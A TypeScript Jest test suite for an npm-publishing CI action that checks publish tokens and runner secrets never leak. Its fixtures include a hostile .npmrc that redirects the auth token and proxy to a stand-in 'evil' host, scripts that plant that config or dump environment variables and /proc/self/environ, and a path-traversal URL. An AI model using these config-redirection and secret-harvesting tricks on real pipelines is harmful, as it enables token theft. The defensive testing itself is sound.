/* eslint jest/expect-expect: ["warn", { "assertFunctionNames": ["expect", "expectOnlyTheRegistry"] }] */
/**
 * Issue 13, classes 2, 3 and 6: which config npm reads, where the token goes when `registry` is
 * not set, and which runner secrets package code gets; then the Low classes about tokens,
 * registry answers, sizes and inputs (7, 8, 9, 11, 12). Through dist/, as the runner runs it,
 * against the scripted fake registry (or a scripted loopback server); a recording "evil"
 * registry/proxy on loopback must hear nothing.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals'
import { execFile } from 'node:child_process'
import crypto from 'node:crypto'
import fs from 'node:fs'
import type http from 'node:http'
import path from 'node:path'
import { promisify } from 'node:util'
import which from 'which'
import {
  makeSandbox,
  removeSandboxes,
  runAction,
  writePackage,
  type RunResult,
  type Sandbox
} from '../scripts/lib/runner.mjs'
import { FakeRegistry, fakeToken, tokenEntry } from './helpers/fake-registry.js'
import { findLeaks, loggedText, runSources } from './helpers/leaks.js'
import { EvilServer, ScriptedServer } from './helpers/loopback.js'
import { fragmentsOf, killAfter } from './helpers/procs.js'
import { fileEntry, manifestBody, writeTgz } from './helpers/tar-fixtures.js'

const exec = promisify(execFile)
const token = fakeToken()
let fake: FakeRegistry
let evil: EvilServer

beforeAll(async () => {
  fake = await FakeRegistry.start({ token })
  evil = await EvilServer.start()
})

afterAll(async () => {
  await fake.close()
  await evil.close()
  removeSandboxes()
})

const ENV = { NPM_AUTOMATION_PUBLISH_TIMEOUT_MS: '5000' }

/**
 * A hostile .npmrc: a scope redirect (npm's pickRegistry uses `<scope>:registry` even for an
 * unscoped package, so `registry=` alone would not be needed), an auth line for the evil host,
 * and a proxy with TLS checks off. Either half, if read, sends the token to `evil`.
 */
function hostileNpmrc(): string {
  return [
    `registry=${evil.url}`,
    'scope=@evil',
    `@evil:registry=${evil.url}`,
    `//${evil.host}/:_authToken=\${NPM_AUTOMATION_PUBLISH_TOKEN}`,
    `https-proxy=${evil.url}`,
    `proxy=${evil.url}`,
    'strict-ssl=false',
    ''
  ].join('\n')
}

/** Publishes `name` from the sandbox's workspace; returns the run and what `evil` heard meanwhile. */
async function publish(
  sandbox: Sandbox,
  name: string,
  options: {
    env?: Record<string, string>
    scripts?: Record<string, string>
    files?: Record<string, string>
  } = {}
): Promise<{ run: RunResult; evilSaw: string[]; evilGotToken: number }> {
  writePackage(
    path.join(sandbox.workspace, 'pkg'),
    { name, version: '1.0.0', ...(options.scripts ? { scripts: options.scripts } : {}) },
    options.files
  )
  const before = evil.seen.length
  const run = await runAction({
    inputs: { token, registry: fake.url, package: 'pkg' },
    sandbox,
    env: { ...ENV, ...options.env }
  })
  const seen = evil.seen.slice(before)
  return {
    run,
    evilSaw: seen.map((s) => `${s.method} ${s.url}`),
    evilGotToken: seen.filter((s) => s.headers.includes(token) || s.url.includes(token)).length
  }
}

/** Published to the real registry, with the token, and nothing reached `evil`. */
function expectOnlyTheRegistry(result: Awaited<ReturnType<typeof publish>>, name: string): void {
  expect(result.evilSaw).toEqual([])
  expect(result.evilGotToken).toBe(0)
  expect(result.run.outputs['error-code']).toBe('')
  expect(result.run.outputs['published']).toBe('true')
  expect(fake.versionsOf(name)).toEqual(['1.0.0'])
  expect(fake.puts.filter((p) => p.name === name && p.tokenSent)).toHaveLength(1)
  expect(findLeaks(token, runSources(result.run))).toEqual([])
}

/** The node binary npm runs on, and the global prefix npm derives from it (and from its PATH name). */
function nodePrefixes(): string[] {
  const onPath = which.sync('node')
  return [
    ...new Set([
      path.dirname(path.dirname(fs.realpathSync(onPath))),
      path.dirname(path.dirname(onPath))
    ])
  ]
}

describe("npm reads only the config the action wrote (class 2: npm's project config found by walking up)", () => {
  it('a hostile .npmrc beside a package.json in RUNNER_TEMP', async () => {
    const sandbox = makeSandbox()
    fs.writeFileSync(path.join(sandbox.runnerTemp, '.npmrc'), hostileNpmrc())
    fs.writeFileSync(path.join(sandbox.runnerTemp, 'package.json'), '{}')
    expectOnlyTheRegistry(await publish(sandbox, 'cfg-runner-temp'), 'cfg-runner-temp')
  })

  it('a hostile .npmrc in a HOME above RUNNER_TEMP that holds node_modules', async () => {
    const sandbox = makeSandbox()
    fs.writeFileSync(path.join(sandbox.root, '.npmrc'), hostileNpmrc())
    fs.mkdirSync(path.join(sandbox.root, 'node_modules'))
    expectOnlyTheRegistry(
      await publish(sandbox, 'cfg-home-above', { env: { HOME: sandbox.root } }),
      'cfg-home-above'
    )
  })

  it('a hostile .npmrc in os.tmpdir() when RUNNER_TEMP is unset (a shared /tmp, simulated with TMPDIR)', async () => {
    const sandbox = makeSandbox()
    const tmp = path.join(sandbox.root, 'shared-tmp')
    fs.mkdirSync(path.join(tmp, 'node_modules'), { recursive: true })
    fs.writeFileSync(path.join(tmp, '.npmrc'), hostileNpmrc())
    const result = await publish(sandbox, 'cfg-tmpdir', { env: { RUNNER_TEMP: '', TMPDIR: tmp } })
    expectOnlyTheRegistry(result, 'cfg-tmpdir')
    // The private dir was made there, and removed; npm wrote no compile cache there either.
    expect(fs.readdirSync(tmp).sort()).toEqual(['.npmrc', 'node_modules'])
  })

  it("npm's compile cache in os.tmpdir() (V8 code any local user or script can plant there) is not used by the npm that holds the token", async () => {
    // npm calls module.enableCompileCache(): by default Node then loads (and writes) V8 code cache
    // from os.tmpdir()/node-compile-cache, a directory it accepts even when another user made it.
    const sandbox = makeSandbox()
    const tmp = path.join(sandbox.root, 'shared-tmp')
    const planted = path.join(tmp, 'node-compile-cache')
    fs.mkdirSync(planted, { recursive: true, mode: 0o777 })
    const result = await publish(sandbox, 'cfg-compile-cache', { env: { TMPDIR: tmp } })
    expect(result.run.outputs['published']).toBe('true')
    expect(fs.readdirSync(planted)).toEqual([]) // no npm of the action read or wrote it
  })

  it('a hostile .npmrc and package.json written into RUNNER_TEMP by a prepublishOnly script', async () => {
    const sandbox = makeSandbox()
    const plant = `
const fs = require('fs'), path = require('path')
fs.writeFileSync(path.join(process.env.RUNNER_TEMP, '.npmrc'), ${JSON.stringify(hostileNpmrc())})
fs.writeFileSync(path.join(process.env.RUNNER_TEMP, 'package.json'), '{}')
`
    const result = await publish(sandbox, 'cfg-script-plant', {
      scripts: { prepublishOnly: 'node plant.js' },
      files: { 'plant.js': plant }
    })
    expect(fs.existsSync(path.join(sandbox.runnerTemp, '.npmrc'))).toBe(true) // the script ran
    expectOnlyTheRegistry(result, 'cfg-script-plant')
  })

  it('env PREFIX pointing at a directory with a hostile etc/npmrc', async () => {
    const sandbox = makeSandbox()
    const prefix = path.join(sandbox.root, 'prefix')
    fs.mkdirSync(path.join(prefix, 'etc'), { recursive: true })
    fs.writeFileSync(path.join(prefix, 'etc', 'npmrc'), hostileNpmrc())
    expectOnlyTheRegistry(
      await publish(sandbox, 'cfg-env-prefix', { env: { PREFIX: prefix } }),
      'cfg-env-prefix'
    )
  })

  it('env DESTDIR in front of the node prefix, with a hostile etc/npmrc there', async () => {
    const sandbox = makeSandbox()
    const destdir = path.join(sandbox.root, 'destdir')
    for (const prefix of nodePrefixes()) {
      fs.mkdirSync(path.join(destdir, prefix, 'etc'), { recursive: true })
      fs.writeFileSync(path.join(destdir, prefix, 'etc', 'npmrc'), hostileNpmrc())
    }
    expectOnlyTheRegistry(
      await publish(sandbox, 'cfg-env-destdir', { env: { DESTDIR: destdir } }),
      'cfg-env-destdir'
    )
  })

  it('env NPM_CONFIG_GLOBALCONFIG naming a hostile npmrc (npm lets it beat --globalconfig)', async () => {
    const sandbox = makeSandbox()
    const file = path.join(sandbox.root, 'hostile-global-npmrc')
    fs.writeFileSync(file, hostileNpmrc())
    expectOnlyTheRegistry(
      await publish(sandbox, 'cfg-env-globalconfig', {
        env: { NPM_CONFIG_GLOBALCONFIG: file, npm_config_globalconfig: file }
      }),
      'cfg-env-globalconfig'
    )
  })
})

describe('where the token goes when `registry` is not set (class 3)', () => {
  /**
   * A guard: every non-loopback request (registry.npmjs.org above all) goes to the recording
   * server as a CONNECT and is refused there, so no test can reach npmjs whatever the code does.
   */
  const guardEnv = (): Record<string, string> => ({
    HTTPS_PROXY: evil.url,
    HTTP_PROXY: evil.url,
    NO_PROXY: '127.0.0.1,localhost'
  })

  it("a directory's publishConfig.registry: whoami, the token list and the PUT go there, and the log says why", async () => {
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), {
      name: 'cfg-publishconfig-registry',
      version: '1.0.0',
      publishConfig: { registry: fake.url }
    })
    const before = fake.requests.length
    const evilBefore = evil.seen.length
    const run = await runAction({
      inputs: { token, package: 'pkg', registry: undefined },
      sandbox,
      env: { ...ENV, ...guardEnv() }
    })
    expect(evil.seen.slice(evilBefore)).toEqual([])
    expect(run.outputs['error-code']).toBe('')
    expect(run.outputs['registry']).toBe(fake.url)
    const routes = fake.requests
      .slice(before)
      .filter((r) => r.tokenSent)
      .map((r) => r.route)
    expect(routes).toEqual(expect.arrayContaining(['whoami', 'tokens', 'packument', 'publish']))
    expect(loggedText(run.main.stdout)).toContain(
      `Registry: ${fake.url} (publishConfig.registry of pkg/package.json).`
    )
    expect(fake.versionsOf('cfg-publishconfig-registry')).toEqual(['1.0.0'])
  })

  it('a .tgz whose publishConfig.registry differs from the registry in use: INPUT_INVALID naming both, nothing sent', async () => {
    const sandbox = makeSandbox()
    writeTgz(path.join(sandbox.workspace, 'pc.tgz'), [
      fileEntry(
        'package/package.json',
        manifestBody({
          name: 'cfg-tgz-registry',
          version: '1.0.0',
          publishConfig: { registry: evil.url }
        })
      )
    ])
    const before = fake.requests.length
    const evilBefore = evil.seen.length
    const run = await runAction({
      inputs: { token, registry: fake.url, package: 'pc.tgz' },
      sandbox,
      env: { ...ENV, ...guardEnv() }
    })
    expect(run.outputs['error-code']).toBe('INPUT_INVALID')
    const error = run.main.stdout.split('\n').find((line) => line.startsWith('::error')) ?? ''
    expect(error).toContain(evil.url)
    expect(error).toContain(fake.url)
    expect(fake.requests.length).toBe(before)
    expect(evil.seen.length).toBe(evilBefore)
  })

  it("the guard itself: a registry off loopback is asked through HTTPS_PROXY (the bundle's own ProxyAgent), the token not in what the proxy sees", async () => {
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), { name: 'cfg-proxy', version: '1.0.0' })
    const evilBefore = evil.seen.length
    const run = await runAction({
      inputs: {
        token,
        registry: 'https://registry.example.invalid/',
        package: 'pkg',
        'validate-only': 'true'
      },
      sandbox,
      env: { ...ENV, NPM_AUTOMATION_PUBLISH_TIMEOUT_MS: '2000', ...guardEnv() }
    })
    const seen = evil.seen.slice(evilBefore)
    expect(seen.map((s) => `${s.method} ${s.url}`)).toContain(
      'CONNECT registry.example.invalid:443'
    )
    expect(seen.every((s) => s.method === 'CONNECT')).toBe(true)
    for (const s of seen) expect(s.headers).not.toContain(token)
    expect(run.outputs['error-code']).toBe('REGISTRY_UNREACHABLE')
  })
})

describe('runner secrets never reach package code (class 6)', () => {
  it('ACTIONS_RUNTIME_TOKEN, ACTIONS_*_URL and ACTIONS_ID_TOKEN_REQUEST_* are absent from every lifecycle script', async () => {
    const sandbox = makeSandbox()
    const loot = path.join(sandbox.root, 'loot')
    fs.mkdirSync(loot)
    const secrets: Record<string, string> = {
      ACTIONS_RUNTIME_TOKEN: 'runtime-token-3f9a7c1e5b2d',
      ACTIONS_RUNTIME_URL: 'http://127.0.0.1:9/runtime-url-8c2e/',
      ACTIONS_RESULTS_URL: 'http://127.0.0.1:9/results-url-4d1b/',
      ACTIONS_CACHE_URL: 'http://127.0.0.1:9/cache-url-6a0f/',
      ACTIONS_ID_TOKEN_REQUEST_URL: `${evil.url}id-token-request-url-2b7d`,
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'id-token-request-token-9e5c'
    }
    const dump = `
const fs = require('fs'), path = require('path')
fs.writeFileSync(path.join(${JSON.stringify(loot)}, process.env.npm_lifecycle_event + '.json'),
  JSON.stringify({ env: process.env, environ: fs.readFileSync('/proc/self/environ', 'latin1') }))
`
    const scripts = Object.fromEntries(
      ['prepublishOnly', 'prepack', 'prepare', 'postpack', 'publish', 'postpublish'].map((s) => [
        s,
        'node dump.js'
      ])
    )
    const result = await publish(sandbox, 'cfg-runner-secrets', {
      env: secrets,
      scripts,
      files: { 'dump.js': dump }
    })
    expectOnlyTheRegistry(result, 'cfg-runner-secrets')
    const dumps = fs.readdirSync(loot)
    expect(dumps.sort()).toEqual(
      Object.keys(scripts)
        .map((s) => `${s}.json`)
        .sort()
    )
    for (const file of dumps) {
      const { env, environ } = JSON.parse(fs.readFileSync(path.join(loot, file), 'utf8')) as {
        env: Record<string, string>
        environ: string
      }
      expect(Object.keys(env).filter((k) => k.toUpperCase().startsWith('ACTIONS_'))).toEqual([])
      for (const value of Object.values(secrets)) {
        expect(JSON.stringify(env)).not.toContain(value)
        expect(environ).not.toContain(value)
      }
      expect(env['RUNNER_TEMP']).toBe(sandbox.runnerTemp) // the dump is of the real script env
    }
  })
})

// --- Low (classes 7, 8, 9, 11, 12): a specific code and message, no crash, no hang ---------------

/** Everything a run shows: the log as the runner prints it, stderr, outputs, the job summary. */
function shown(run: RunResult): string {
  return [
    loggedText(run.main.stdout),
    run.main.stderr,
    JSON.stringify(run.outputs),
    run.summary,
    loggedText(run.post?.stdout ?? '')
  ].join('\n')
}

/** A registry on loopback whose every answer `route(req)` decides (a status, a body, or endless). */
async function scripted(
  route: (url: string, method: string) => { status: number; body?: unknown } | 'endless'
): Promise<ScriptedServer> {
  return ScriptedServer.start((req, res) => {
    const answer = route(req.url ?? '/', req.method ?? 'GET')
    if (answer === 'endless') return endless(res)
    const text = JSON.stringify(answer.body ?? {})
    res.writeHead(answer.status, { 'content-type': 'application/json' }).end(text)
  })
}

/** A 200 JSON answer that never ends (64 KiB chunks as fast as the client reads them). */
function endless(res: http.ServerResponse): void {
  res.writeHead(200, { 'content-type': 'application/json' })
  res.write('{"name":"endless","versions":{"1.0.0":{"dist":{"integrity":"')
  const chunk = Buffer.alloc(64 * 1024, 'a')
  const pump = (): void => {
    while (!res.destroyed && res.write(chunk));
    if (!res.destroyed) res.once('drain', pump)
  }
  pump()
}

/** The usual answers of a registry that knows the token, for the routes a test does not script. */
function normal(url: string): { status: number; body?: unknown } {
  if (url === '/-/whoami') return { status: 200, body: { username: 'ci-bot' } }
  if (url.startsWith('/-/npm/v1/tokens')) return { status: 200, body: { objects: [], urls: {} } }
  return { status: 404, body: { error: 'Not found' } }
}

describe('tokens the registry cannot take (class 7)', () => {
  it.each([
    ['a euro sign', `npm_${'a'.repeat(20)}€${'b'.repeat(15)}`],
    ['an emoji', `npm_${'a'.repeat(20)}😀${'b'.repeat(14)}`]
  ])('a token with %s: TOKEN_MALFORMED at once, nothing sent', async (_what, bad) => {
    const before = fake.requests.length
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), { name: 'low-token-chars', version: '1.0.0' })
    const run = await runAction({
      inputs: { token: bad, registry: fake.url, package: 'pkg' },
      sandbox,
      env: ENV,
      onMainStart: killAfter(30_000)
    })
    expect(run.outputs['error-code']).toBe('TOKEN_MALFORMED')
    expect(run.main.stdout).toMatch(/::error title=TOKEN_MALFORMED::.*not printable ASCII/)
    expect(run.main.stdout + run.main.stderr).not.toMatch(/ReferenceError|Unexpected error/)
    expect(fake.requests.length).toBe(before)
    expect(run.main.ms).toBeLessThan(10_000) // (a hang would wait for a timeout first)
  })

  it('a registry answering 431 (headers too large): TOKEN_MALFORMED saying so, not REGISTRY_UNREACHABLE', async () => {
    const server = await scripted(() => ({
      status: 431,
      body: { error: 'Request Header Fields Too Large' }
    }))
    try {
      const sandbox = makeSandbox()
      writePackage(path.join(sandbox.workspace, 'pkg'), { name: 'low-431', version: '1.0.0' })
      const run = await runAction({
        inputs: { token, registry: server.url, package: 'pkg' },
        sandbox,
        env: ENV
      })
      expect(run.outputs['error-code']).toBe('TOKEN_MALFORMED')
      expect(run.main.stdout).toMatch(/::error title=TOKEN_MALFORMED::.*HTTP 431/)
    } finally {
      await server.close()
    }
  })
})

describe('registry text that echoes the token (class 8)', () => {
  // Not npm-shaped: npm's own log redaction (npm_ + 36 characters) must not be what hides it.
  const token = crypto.randomBytes(24).toString('hex')
  const echoes: [string, string][] = [
    ['echoes it', `this token is not accepted here: ${token}`],
    ['echoes it split across lines', `bad token ${token.slice(0, 20)}\n${token.slice(20)} refused`],
    ['echoes it where a 200-character cut falls mid-token', `${'x'.repeat(190)}${token} refused`]
  ]

  it.each(echoes)(
    'a packument error that %s: no 8-character fragment anywhere',
    async (_how, text) => {
      const server = await scripted((url) =>
        url.startsWith('/low-echo') ? { status: 400, body: { error: text } } : normal(url)
      )
      try {
        const sandbox = makeSandbox()
        writePackage(path.join(sandbox.workspace, 'pkg'), { name: 'low-echo', version: '1.0.0' })
        const run = await runAction({
          inputs: { token, registry: server.url, package: 'pkg' },
          sandbox,
          env: ENV
        })
        expect(run.outputs['error-code']).toBe('REGISTRY_UNREACHABLE')
        expect(run.main.stdout).toMatch(/::error title=REGISTRY_UNREACHABLE::.*HTTP 400/)
        expect(fragmentsOf(token, shown(run))).toEqual([])
      } finally {
        await server.close()
      }
    }
  )

  it.each(echoes)(
    'an upload refusal (npm prints the body) that %s: no 8-character fragment anywhere',
    async (_how, text) => {
      const name = `low-put-echo-${echoes.findIndex(([, t]) => t === text)}`
      fake.scriptPut({ kind: 'status', status: 400, body: { error: text } })
      const sandbox = makeSandbox()
      writePackage(path.join(sandbox.workspace, 'pkg'), { name, version: '1.0.0' })
      const run = await runAction({
        inputs: { token, registry: fake.url, package: 'pkg' },
        sandbox,
        env: ENV
      })
      expect(run.outputs['published']).toBe('false')
      expect(fake.puts.some((p) => p.name === name)).toBe(true) // npm did upload, and was refused
      expect(fragmentsOf(token, shown(run))).toEqual([])
    }
  )

  it('a whoami username that holds the token never reaches `token-user` (or anything shown)', async () => {
    fake.whoamiMode = { kind: 'ok', username: `bot-${token}` }
    try {
      const sandbox = makeSandbox()
      writePackage(path.join(sandbox.workspace, 'pkg'), { name: 'low-user-echo', version: '1.0.0' })
      const run = await runAction({
        inputs: { token, registry: fake.url, package: 'pkg', 'validate-only': 'true' },
        sandbox,
        env: ENV
      })
      expect(run.outputs['error-code']).toBe('')
      expect(run.outputs['token-user']).toBe('')
      expect(fragmentsOf(token, shown(run))).toEqual([])
    } finally {
      fake.whoamiMode = { kind: 'ok', username: 'ci-bot' }
    }
  })
})

describe('sizes (class 9)', () => {
  /** Preloaded into the main step: its peak RSS, written at exit. */
  function rssProbe(sandbox: Sandbox): { env: Record<string, string>; peakMb: () => number } {
    const out = path.join(sandbox.root, 'rss.json')
    const hook = path.join(sandbox.root, 'rss.cjs')
    fs.writeFileSync(
      hook,
      `if ((process.argv[1] || '').endsWith('dist/index.js')) process.on('exit', () =>
  require('fs').writeFileSync(${JSON.stringify(out)}, JSON.stringify(process.resourceUsage().maxRSS)))
`
    )
    return {
      env: { NODE_OPTIONS: `--require ${hook}` },
      peakMb: () => Number(fs.readFileSync(out, 'utf8')) / 1024
    }
  }

  it.each([
    ['whoami', (url: string) => url === '/-/whoami'],
    ['the packument', (url: string) => url.startsWith('/low-endless')]
  ])('an endless body on %s: a clear error, bounded memory', async (_what, isEndless) => {
    const server = await scripted((url) => (isEndless(url) ? 'endless' : normal(url)))
    try {
      const sandbox = makeSandbox()
      const rss = rssProbe(sandbox)
      writePackage(path.join(sandbox.workspace, 'pkg'), { name: 'low-endless', version: '1.0.0' })
      const run = await runAction({
        inputs: { token, registry: server.url, package: 'pkg' },
        sandbox,
        env: { ...ENV, ...rss.env },
        onMainStart: killAfter(40_000)
      })
      expect(run.outputs['error-code']).toBe('REGISTRY_UNREACHABLE')
      expect(run.main.stdout).toMatch(/::error title=REGISTRY_UNREACHABLE::.*answer is larger than/)
      expect(rss.peakMb()).toBeLessThan(400)
    } finally {
      await server.close()
    }
  })

  it.each([
    ['a FIFO', 'fifo'],
    ['a link to /dev/zero', 'zero']
  ])('a package.json that is %s: PACKAGE_INVALID at once', async (_what, kind) => {
    const sandbox = makeSandbox()
    const dir = path.join(sandbox.workspace, 'pkg')
    fs.mkdirSync(dir)
    if (kind === 'fifo') await exec('mkfifo', [path.join(dir, 'package.json')])
    else fs.symlinkSync('/dev/zero', path.join(dir, 'package.json'))
    const before = fake.requests.length
    const run = await runAction({
      inputs: { token, registry: fake.url, package: 'pkg' },
      sandbox,
      env: ENV,
      onMainStart: killAfter(30_000)
    })
    expect(run.outputs['error-code']).toBe('PACKAGE_INVALID')
    expect(run.main.stdout).toMatch(
      /::error title=PACKAGE_INVALID::.*package\.json is not a regular file/
    )
    expect(fake.requests.length).toBe(before)
    expect(run.main.ms).toBeLessThan(10_000)
  })

  it('a FIFO named x.tgz: INPUT_INVALID at once', async () => {
    const sandbox = makeSandbox()
    await exec('mkfifo', [path.join(sandbox.workspace, 'x.tgz')])
    const run = await runAction({
      inputs: { token, registry: fake.url, package: 'x.tgz' },
      sandbox,
      env: ENV,
      onMainStart: killAfter(30_000)
    })
    expect(run.outputs['error-code']).toBe('INPUT_INVALID')
    expect(run.main.stdout).toMatch(/::error title=INPUT_INVALID::.*not a regular file/)
    expect(run.main.ms).toBeLessThan(10_000)
  })

  it('a 300 KB npm error: the job summary stays under the runner limit', async () => {
    const words = Array.from({ length: 50_000 }, (_, i) => `w${(i * 7919) % 100_000}`).join(' ')
    expect(words.length).toBeGreaterThan(300_000)
    fake.scriptPut({ kind: 'status', status: 400, body: { error: words } })
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), { name: 'low-big-error', version: '1.0.0' })
    const run = await runAction({
      inputs: { token, registry: fake.url, package: 'pkg' },
      sandbox,
      env: ENV
    })
    expect(run.outputs['published']).toBe('false')
    expect(run.main.stdout).toContain(words.slice(0, 100)) // npm did print it
    expect(Buffer.byteLength(run.summary)).toBeLessThan(100 * 1024)
    expect(run.summary).toContain('low-big-error')
  })
})

describe('inputs (class 11)', () => {
  it('a registry URL ending in a bare #: INPUT_INVALID, nothing sent', async () => {
    const before = fake.requests.length
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), { name: 'low-hash', version: '1.0.0' })
    const run = await runAction({
      inputs: { token, registry: `${fake.url}#`, package: 'pkg' },
      sandbox,
      env: ENV
    })
    expect(run.outputs['error-code']).toBe('INPUT_INVALID')
    expect(run.main.stdout).toMatch(/::error title=INPUT_INVALID::.*#fragment/)
    expect(fake.requests.length).toBe(before)
  })

  it.each([
    ['RUNNER_TEMP itself', (s: Sandbox) => s.runnerTemp],
    ['a parent of RUNNER_TEMP', (s: Sandbox) => s.root]
  ])(
    '`package` pointing at %s: INPUT_INVALID (the tarball would hold the private dir)',
    async (_what, at) => {
      const sandbox = makeSandbox()
      writePackage(at(sandbox), { name: 'low-temp-package', version: '1.0.0' })
      const before = fake.requests.length
      const run = await runAction({
        inputs: { token, registry: fake.url, package: at(sandbox) },
        sandbox,
        env: ENV
      })
      expect(run.outputs['error-code']).toBe('INPUT_INVALID')
      expect(run.main.stdout).toMatch(/::error title=INPUT_INVALID::.*runner's temp directory/)
      expect(fake.requests.length).toBe(before)
      expect(fake.versionsOf('low-temp-package')).toEqual([])
    }
  )
})

describe('token list oddities (class 12)', () => {
  async function healthCheck(name: string): Promise<RunResult> {
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), { name, version: '1.0.0' })
    return runAction({
      inputs: { token, registry: fake.url, package: 'pkg', 'validate-only': 'true' },
      sandbox,
      env: ENV
    })
  }

  afterEach(() => {
    fake.tokenList = { mode: 'list', entries: [] }
  })

  it('`objects: [null]`: token details unavailable (a notice), not an unexpected error', async () => {
    fake.tokenList = { mode: 'list', entries: [null as unknown as object] }
    const run = await healthCheck('low-list-null')
    expect(run.outputs['error-code']).toBe('')
    expect(run.main.stdout).toMatch(/::notice title=Token details unavailable::.*not objects/)
    expect(run.main.stdout).not.toContain('Unexpected error')
  })

  it("another token's legacy 6-character prefix, ours not listed: not taken for ours", async () => {
    fake.tokenList = {
      mode: 'list',
      entries: [
        { ...tokenEntry(fakeToken(), { readonly: true }), token: token.slice(0, 6), key: 'x' }
      ]
    }
    const run = await healthCheck('low-list-prefix')
    expect(run.outputs['error-code']).toBe('')
    expect(run.outputs['token-check']).toBe('passed')
    expect(run.main.stdout).toMatch(/Token details: this token is not among the 1 listed/)
  })

  it('`urls.next` with ..%2f segments is not followed', async () => {
    fake.tokenList = {
      mode: 'list',
      entries: [],
      next: () => '/-/npm/v1/tokens/..%2f..%2f..%2fsecret-repo/-/npm/v1/tokens?page=1'
    }
    const before = fake.requests.length
    const run = await healthCheck('low-list-next')
    expect(run.outputs['error-code']).toBe('')
    const urls = fake.requests.slice(before).map((r) => r.url)
    expect(urls.filter((u) => /secret-repo|%2f/i.test(u))).toEqual([])
    expect(urls.filter((u) => u.startsWith('/-/npm/v1/tokens'))).toHaveLength(1)
  })
})
